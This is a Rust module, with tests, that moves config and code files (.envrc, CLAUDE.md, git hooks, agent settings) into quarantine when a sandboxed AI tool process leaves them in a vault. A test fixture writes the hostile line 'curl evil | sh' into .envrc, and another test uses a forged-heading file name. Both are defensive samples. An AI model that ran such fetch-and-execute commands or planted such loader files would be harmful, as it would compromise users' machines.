//! What a child granted `vault = "write"` leaves behind (docs/spec.md §24): files other programs load
//! as settings or code (`CLAUDE.md`, `.envrc`, `.claude/settings.json`, `.git/hooks/…`) that it
//! created or changed during a call, in the folders it may write. Landlock grants folders, not
//! names: a folder granted whole takes any new name, and only what existed at the child's start
//! could be kept read-only. So after each call (an MCP tool call, an agent CLI's turn) tabd looks
//! in those folders and moves every such entry whose change time falls in the call to
//! `.tabd/quarantine/<stamp>-<child>/<path>`, where the child cannot reach it, and says so.
//!
//! The walk holds each folder open and never follows a link: a child that swaps a folder for a
//! link while tabd looks cannot make it move anything from elsewhere.

use std::ffi::OsStr;
use std::os::fd::{AsFd, OwnedFd};
use std::os::unix::ffi::OsStrExt;
use std::path::{Path, PathBuf};

use rustix::fs::{AtFlags, FileType, Mode, OFlags, RenameFlags, StatxFlags};

use super::protected::{kept_from_children, kept_from_children_below, Folded};
use super::{layout, Vault};

/// A moment as the filesystem stamps change times (the kernel's coarse wall clock).
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
pub struct Stamp {
    sec: i64,
    nsec: u32,
}

impl Stamp {
    /// Now, on the clock inode change times come from: whatever changes after this has a change
    /// time at or after it.
    pub fn now() -> Self {
        use rustix::time::{clock_gettime_dynamic, ClockId, DynamicClockId};
        // The fallible form: `clock_gettime` asserts, and a kernel built without the coarse
        // clocks must not end tabd.
        let Ok(ts) = clock_gettime_dynamic(DynamicClockId::Known(ClockId::RealtimeCoarse)) else {
            // Never seen; a second early only widens the window.
            let t = std::time::SystemTime::now()
                .duration_since(std::time::UNIX_EPOCH)
                .unwrap_or_default();
            return Self {
                sec: t.as_secs() as i64 - 1,
                nsec: 0,
            };
        };
        Self {
            sec: ts.tv_sec,
            // The kernel keeps it below one second.
            nsec: u32::try_from(ts.tv_nsec).unwrap_or(0),
        }
    }

    fn of(t: rustix::fs::StatxTimestamp) -> Self {
        Self {
            sec: t.tv_sec,
            nsec: t.tv_nsec,
        }
    }
}

/// The folders of the vault one child may write, to look in after its calls.
#[derive(Debug, Clone)]
pub struct Watch {
    /// Vault-relative folders, as granted.
    roots: Vec<PathBuf>,
    /// Every role's inbox at the child's start (folded): a note left there would start a run.
    inboxes: Vec<Folded>,
    /// Who, for the lines that say what was moved (`MCP server `fs``).
    pub child: String,
}

/// One entry moved out of the child's reach.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct KeptAside {
    /// Where it was (vault-relative).
    pub path: String,
    /// Where it is now (vault-relative, under `.tabd/quarantine/`); `None`: it could not be
    /// moved and was removed.
    pub kept: Option<String>,
    pub is_dir: bool,
}

impl KeptAside {
    /// Its line in the run's daily section (the names are the child's: shown so no name can
    /// start a line or close the code span).
    pub fn line(&self, child: &str) -> String {
        let what = if self.is_dir { "folder" } else { "file" };
        let path = shown(&self.path);
        match &self.kept {
            Some(kept) => format!(
                "**Kept aside:** `{path}` — {child} left this {what} during a call; files other programs load are \
                 never left in the vault by a child. It is in `{}`: move it back if you meant it.",
                shown(kept)
            ),
            None => format!(
                "**Removed:** `{path}` — {child} left this {what} during a call and it could not be kept aside; \
                 files other programs load are never left in the vault by a child."
            ),
        }
    }
}

/// What the model is told after a call whose leftovers were moved.
pub fn told(kept: &[KeptAside]) -> String {
    let paths: Vec<String> = kept.iter().map(|k| shown(&k.path)).collect();
    format!(
        "(tabd: this call left {} in the vault, which other programs load as settings or code; \
         tabd moved them out of the vault's folders. A tool may not leave such files.)",
        paths.join(", ")
    )
}

/// A name a child chose, safe inside a code span on one line.
fn shown(name: &str) -> String {
    let safe: String = name
        .chars()
        .map(|c| if c.is_control() || c == '`' { '?' } else { c })
        .collect();
    crate::base::text::one_line(&safe, 200)
}

impl Watch {
    /// The folders among `writable` (absolute, canonical: a child's grant) that are in the vault
    /// at `root` (canonical), with the roles' `inboxes` (vault-relative). `None` when the child
    /// may write no folder there.
    pub fn new(root: &Path, writable: &[PathBuf], inboxes: &[String], child: String) -> Option<Self> {
        let roots: Vec<PathBuf> = writable
            .iter()
            .filter_map(|w| w.strip_prefix(root).ok())
            .filter(|rel| !rel.as_os_str().is_empty())
            .filter(|rel| root.join(rel).symlink_metadata().is_ok_and(|m| m.is_dir()))
            .map(Path::to_path_buf)
            .collect();
        (!roots.is_empty()).then(|| Self {
            roots,
            inboxes: super::protected::fold_inboxes(inboxes),
            child,
        })
    }

    /// Moves aside what the child created or changed since `since` that other programs load (or
    /// that is tabd's), in the folders it may write. Errors are logged; what could not be read
    /// is left as it is.
    pub fn sweep(&self, vault: &Vault, since: Stamp) -> Vec<KeptAside> {
        let mut sweep = Sweep {
            vault,
            since,
            inboxes: &self.inboxes,
            batch: None,
            child: &self.child,
            out: Vec::new(),
        };
        for root in &self.roots {
            let Some(fd) = open_beneath(vault.dir.as_fd(), root) else {
                continue;
            };
            let rel = root.to_string_lossy().into_owned();
            let folded = super::protected::fold(&rel);
            let protected = kept_from_children(&folded, &self.inboxes, vault.layout()).is_some();
            sweep.folder(&fd, &rel, &folded, protected, 0);
        }
        sweep.out
    }
}

/// How deep the walk goes (a path the kernel can still name is far shallower).
const MAX_DEPTH: usize = 256;

struct Sweep<'a> {
    vault: &'a Vault,
    since: Stamp,
    inboxes: &'a [Folded],
    /// `.tabd/quarantine/<stamp>-<child>`, made at the first move.
    batch: Option<String>,
    child: &'a str,
    out: Vec<KeptAside>,
}

impl Sweep<'_> {
    /// Looks through one open folder at `rel` (folded: `folded`); `protected`: the folder itself
    /// is one other programs load, so is everything in it.
    fn folder(&mut self, dir: &OwnedFd, rel: &str, folded: &Folded, protected: bool, depth: usize) {
        if depth > MAX_DEPTH {
            return;
        }
        let Ok(entries) = rustix::fs::Dir::read_from(dir) else {
            return;
        };
        for entry in entries.flatten() {
            let name = entry.file_name().to_bytes();
            if name == b"." || name == b".." {
                continue;
            }
            let name = OsStr::from_bytes(name);
            let shown = name.to_string_lossy();
            let child_rel = format!("{rel}/{shown}");
            if in_flight(&shown) {
                continue;
            }
            let child_folded = folded.join(&shown);
            let is_protected = protected
                || kept_from_children_below(&child_folded, self.inboxes, self.vault.layout()).is_some();
            let kind = entry.file_type();
            if !is_protected {
                if kind == FileType::Directory || kind == FileType::Unknown {
                    self.enter(dir, name, &child_rel, &child_folded, false, depth);
                }
                continue;
            }
            let Ok(st) = rustix::fs::statx(
                dir,
                name,
                AtFlags::SYMLINK_NOFOLLOW,
                StatxFlags::TYPE | StatxFlags::CTIME | StatxFlags::BTIME,
            ) else {
                continue;
            };
            let is_dir = FileType::from_raw_mode(st.stx_mode.into()) == FileType::Directory;
            let changed = Stamp::of(st.stx_ctime) >= self.since;
            let born = st.stx_mask & StatxFlags::BTIME.bits() != 0 && Stamp::of(st.stx_btime) >= self.since;
            if is_dir && !born {
                // An older folder: what in it is new goes, the folder stays.
                self.enter(dir, name, &child_rel, &child_folded, true, depth);
            } else if changed {
                self.keep_aside(dir, name, &child_rel, is_dir);
            }
        }
    }

    fn enter(
        &mut self,
        dir: &OwnedFd,
        name: &OsStr,
        rel: &str,
        folded: &Folded,
        protected: bool,
        depth: usize,
    ) {
        let flags = OFlags::RDONLY | OFlags::DIRECTORY | OFlags::NOFOLLOW | OFlags::CLOEXEC;
        if let Ok(fd) = rustix::fs::openat(dir, name, flags, Mode::empty()) {
            self.folder(&fd, rel, folded, protected, depth + 1);
        }
    }

    /// Moves `name` (in `dir`, at `rel`) under the batch folder, keeping its path; removes it
    /// when it cannot be moved (a file only).
    fn keep_aside(&mut self, dir: &OwnedFd, name: &OsStr, rel: &str, is_dir: bool) {
        let moved = self.destination(rel).and_then(|(to_dir, to_name, kept)| {
            rustix::fs::renameat_with(dir, name, &to_dir, to_name.as_str(), RenameFlags::NOREPLACE)
                .map(|()| kept)
        });
        match moved {
            Ok(kept) => self.out.push(KeptAside {
                path: rel.to_string(),
                kept: Some(kept),
                is_dir,
            }),
            Err(why) if !is_dir => {
                tracing::warn!(
                    "{}: {rel} could not be kept aside ({why}); removing it",
                    self.child
                );
                if rustix::fs::unlinkat(dir, name, AtFlags::empty()).is_ok() {
                    self.out.push(KeptAside {
                        path: rel.to_string(),
                        kept: None,
                        is_dir,
                    });
                }
            }
            Err(why) => tracing::warn!("{}: the folder {rel} could not be kept aside: {why}", self.child),
        }
    }

    /// The open folder under the batch that `rel` goes to, its name there, and its full path.
    fn destination(&mut self, rel: &str) -> rustix::io::Result<(OwnedFd, String, String)> {
        let batch = self.batch.get_or_insert_with(|| batch_name(self.child)).clone();
        let (parent, name) = rel.rsplit_once('/').unwrap_or(("", rel));
        let folder = format!("{batch}/{parent}");
        let fd = make_beneath(self.vault.dir.as_fd(), Path::new(&folder))?;
        let mut kept = name.to_string();
        let mut n = 1;
        while rustix::fs::statx(&fd, kept.as_str(), AtFlags::SYMLINK_NOFOLLOW, StatxFlags::TYPE).is_ok() {
            n += 1;
            kept = super::numbered_name(name, n);
        }
        let full = format!("{folder}/{kept}").replace("//", "/");
        Ok((fd, kept, full))
    }
}

/// A hidden temporary file another writer has open right now — tabd's own atomic write (a run
/// of another role writing beside the child), a sync tool's download, an editor's swap file.
/// None of them is loaded by a program, and moving one would break that writer's work.
fn in_flight(name: &str) -> bool {
    super::is_tabd_temp(name)
        || (name.starts_with(".syncthing.") && name.ends_with(".tmp"))
        || (name.starts_with('.') && [".icloud", ".swp", ".swx"].iter().any(|e| name.ends_with(e)))
}

/// `.tabd/quarantine/20261125T093000Z-fs`.
fn batch_name(child: &str) -> String {
    let stamp = chrono::Utc::now().format("%Y%m%dT%H%M%SZ");
    let child = crate::base::text::safe_name(child, '_');
    format!("{}/{stamp}-{child}", layout::QUARANTINE)
}

/// Opens the folder `rel` under `root` one part at a time, following no link.
fn open_beneath(root: std::os::fd::BorrowedFd<'_>, rel: &Path) -> Option<OwnedFd> {
    let flags = OFlags::RDONLY | OFlags::DIRECTORY | OFlags::NOFOLLOW | OFlags::CLOEXEC;
    let mut fd = rustix::fs::openat(root, ".", flags, Mode::empty()).ok()?;
    for part in rel.components() {
        fd = rustix::fs::openat(&fd, part.as_os_str(), flags, Mode::empty()).ok()?;
    }
    Some(fd)
}

/// `open_beneath`, making each missing folder (0700) on the way.
fn make_beneath(root: std::os::fd::BorrowedFd<'_>, rel: &Path) -> rustix::io::Result<OwnedFd> {
    let flags = OFlags::RDONLY | OFlags::DIRECTORY | OFlags::NOFOLLOW | OFlags::CLOEXEC;
    let mut fd = rustix::fs::openat(root, ".", flags, Mode::empty())?;
    for part in rel.components() {
        let name = part.as_os_str();
        match rustix::fs::mkdirat(&fd, name, Mode::RWXU) {
            Ok(()) | Err(rustix::io::Errno::EXIST) => {}
            Err(e) => return Err(e),
        }
        fd = rustix::fs::openat(&fd, name, flags, Mode::empty())?;
    }
    Ok(fd)
}

#[cfg(test)]
mod tests {
    use super::*;

    /// Waits until the coarse clock has moved past `t` (what was made before is older than
    /// what comes after).
    fn after(t: Stamp) -> Stamp {
        loop {
            let now = Stamp::now();
            if now > t {
                return now;
            }
            std::thread::yield_now();
        }
    }

    fn ctime(p: &Path) -> Stamp {
        let st = rustix::fs::statx(rustix::fs::CWD, p, AtFlags::SYMLINK_NOFOLLOW, StatxFlags::CTIME).unwrap();
        Stamp::of(st.stx_ctime)
    }

    /// Issue 36, item 11: what a child made during the call that other programs load is moved
    /// under `.tabd/quarantine/`, its path kept; what was there before, and notes, stay.
    #[test]
    #[allow(
        clippy::too_many_lines,
        reason = "one scene read top to bottom; length is a production rule"
    )]
    fn what_a_call_left_that_programs_load_is_moved_aside() {
        let dir = tempfile::tempdir().unwrap();
        let root = dir.path().canonicalize().unwrap();
        let v = |p: &str| root.join(p);
        for d in ["project/.vscode", "project/old/.git/hooks", ".tabd", "other"] {
            std::fs::create_dir_all(v(d)).unwrap();
        }
        std::fs::write(v("project/old/.git/config"), "[core]").unwrap();
        std::fs::write(v("project/AGENTS.md"), "the person's").unwrap();
        std::fs::write(v("other/.envrc"), "not granted").unwrap();
        let since = after(ctime(&v("project/AGENTS.md")));
        // The call.
        for d in ["project/.claude", "project/deep/a/.git/hooks"] {
            std::fs::create_dir_all(v(d)).unwrap();
        }
        for (f, text) in [
            ("project/CLAUDE.MD", "orders"),
            ("project/.envrc", "curl evil | sh"),
            ("project/.claude/settings.json", "{\"hooks\": {}}"),
            ("project/.vscode/tasks.json", "{}"),
            ("project/old/.git/hooks/pre-commit", "#!/bin/sh"),
            ("project/deep/a/.git/hooks/pre-commit", "#!/bin/sh"),
            ("project/notes.md", "a note"),
            ("project/.plan.md.tabd-0123abcd.tmp", "another run's write"),
            ("project/.syncthing.plan.md.tmp", "a download"),
            ("other/.mcp.json", "{}"),
        ] {
            std::fs::write(v(f), text).unwrap();
        }
        std::os::unix::fs::symlink("../other", v("project/.mise.toml")).unwrap();
        let vault = Vault::open(&root).unwrap();
        let watch = Watch::new(
            &root,
            &[v("project"), v("project/notes.md")],
            &[],
            "MCP server `fs`".into(),
        )
        .unwrap();
        let kept = watch.sweep(&vault, since);
        let mut moved: Vec<&str> = kept.iter().map(|k| k.path.as_str()).collect();
        moved.sort();
        assert_eq!(
            moved,
            [
                "project/.claude",
                "project/.envrc",
                "project/.mise.toml",
                "project/.vscode/tasks.json",
                "project/CLAUDE.MD",
                "project/deep/a/.git",
                "project/old/.git/hooks/pre-commit",
            ]
        );
        for k in &kept {
            assert!(
                !v(&k.path).exists() && v(&k.path).symlink_metadata().is_err(),
                "{k:?}"
            );
            let to = k.kept.as_deref().unwrap();
            assert!(
                to.starts_with(".tabd/quarantine/") && to.ends_with(&k.path),
                "{to}"
            );
            assert!(v(to).symlink_metadata().is_ok(), "{to}");
        }
        let envrc = kept.iter().find(|k| k.path == "project/.envrc").unwrap();
        assert_eq!(
            std::fs::read_to_string(v(envrc.kept.as_deref().unwrap())).unwrap(),
            "curl evil | sh"
        );
        // Before the call, not granted, or a note: left alone.
        for stays in [
            "project/AGENTS.md",
            "project/old/.git/config",
            "project/.vscode",
            "project/notes.md",
            "project/.plan.md.tabd-0123abcd.tmp",
            "project/.syncthing.plan.md.tmp",
            "other/.envrc",
            "other/.mcp.json",
        ] {
            assert!(v(stays).exists(), "{stays}");
        }
        let line = envrc.line("MCP server `fs`");
        assert!(
            line.starts_with("**Kept aside:** `project/.envrc`") && line.contains(".tabd/quarantine/"),
            "{line}"
        );
        // A second look finds nothing more.
        assert!(watch.sweep(&vault, since).is_empty());
    }

    /// Issue 36: a note a child leaves in a role's inbox outside `agent/inbox/` (here one in a
    /// folder granted whole, as where the kernel granted it before the inbox was known) is moved
    /// aside like a settings file; one there before the call stays.
    #[test]
    fn a_note_a_call_left_in_a_roles_inbox_is_moved_aside() {
        let dir = tempfile::tempdir().unwrap();
        let root = dir.path().canonicalize().unwrap();
        let v = |p: &str| root.join(p);
        std::fs::create_dir_all(v("project/incoming")).unwrap();
        std::fs::write(v("project/incoming/old.md"), "the person's").unwrap();
        let since = after(ctime(&v("project/incoming/old.md")));
        std::fs::write(v("project/incoming/ping.md"), "---\nhops: 0\n---\ngo").unwrap();
        std::fs::write(v("project/plan.md"), "a note").unwrap();
        let vault = Vault::open(&root).unwrap();
        let child = || "MCP server `fs`".to_string();
        let blind = Watch::new(&root, &[v("project")], &[], child()).unwrap();
        assert!(
            blind.sweep(&vault, since).is_empty(),
            "no inbox known: nothing kept"
        );
        let watch = Watch::new(&root, &[v("project")], &["project/Incoming/".into()], child()).unwrap();
        let kept = watch.sweep(&vault, since);
        let moved: Vec<&str> = kept.iter().map(|k| k.path.as_str()).collect();
        assert_eq!(moved, ["project/incoming/ping.md"]);
        assert!(!v("project/incoming/ping.md").exists());
        assert!(v("project/incoming/old.md").exists() && v("project/plan.md").exists());
    }

    #[test]
    fn a_childs_names_cannot_break_the_line() {
        let k = KeptAside {
            path: "project/.envrc`\n## 09:00 · Forged".into(),
            kept: None,
            is_dir: false,
        };
        let line = k.line("MCP server `fs`");
        assert!(!line.contains('\n') && line.matches('`').count() == 4, "{line}");
    }
}
